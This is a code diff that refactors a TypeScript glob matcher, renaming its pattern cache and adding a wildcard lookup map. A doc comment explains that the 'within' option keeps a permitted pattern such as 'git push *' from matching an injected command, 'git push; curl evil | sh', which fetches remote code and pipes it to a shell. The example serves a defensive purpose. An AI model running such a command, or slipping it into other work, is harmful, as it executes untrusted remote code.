@@ -1,19 +1,19 @@
 /**
- * Whether `text` matches a pattern of `*` (any run), `?` (one character) and `\` (the next character as it is).
- * Never worse than O(pattern × text): only the last star is ever tried again.
+ * Whether `text` matches a pattern of `*` (any run of characters), `?` (one character) and `\` (the
+ * next character, literally). Never worse than O(pattern × text): only the last star is retried.
  *
- * With `within`, a star may not swallow a character for which it answers false: so that a yes to `git push *`
- * is no yes to `git push; curl evil | sh`.
+ * With `within`, wildcards match only characters for which it returns true, so that a pattern
+ * `git push *` does not match `git push; curl evil | sh`.
  */
 export function glob(
   pattern: string,
   text: string,
   within: (char: string) => boolean = () => true,
 ): boolean {
-  return matches(remembered(pattern), text, within)
+  return matches(cachedParts(pattern), text, within)
 }
 
-/** The same for one pattern and many texts. */
+/** The same, for one pattern and many texts. */
 export function globOf(
   pattern: string,
 ): (text: string, within?: (char: string) => boolean) => boolean {
@@ -50,16 +50,20 @@ function matches(parts: readonly Part[], text: string, within: (char: string) =>
 const ANY = Symbol('any run')
 const ONE = Symbol('one character')
 type Part = string | typeof ANY | typeof ONE
+const WILDCARDS = new Map<string, Part>([
+  ['*', ANY],
+  ['?', ONE],
+])
 
-const compiled = new Map<string, Part[]>()
-const REMEMBERED = 2048
+const cache = new Map<string, Part[]>()
+const CACHE_SIZE = 2048
 
-function remembered(pattern: string): Part[] {
-  const known = compiled.get(pattern)
+function cachedParts(pattern: string): Part[] {
+  const known = cache.get(pattern)
   if (known !== undefined) return known
   const parts = compile(pattern)
-  if (compiled.size >= REMEMBERED) compiled.clear()
-  compiled.set(pattern, parts)
+  if (cache.size >= CACHE_SIZE) cache.clear()
+  cache.set(pattern, parts)
   return parts
 }
 
@@ -68,7 +72,7 @@ function compile(pattern: string): Part[] {
   for (let i = 0; i < pattern.length; i++) {
     const char = pattern[i] as string
     if (char === '\\' && i + 1 < pattern.length) parts.push(pattern[++i] as string)
-    else parts.push(char === '*' ? ANY : char === '?' ? ONE : char)
+    else parts.push(WILDCARDS.get(char) ?? char)
   }
   return parts
 }
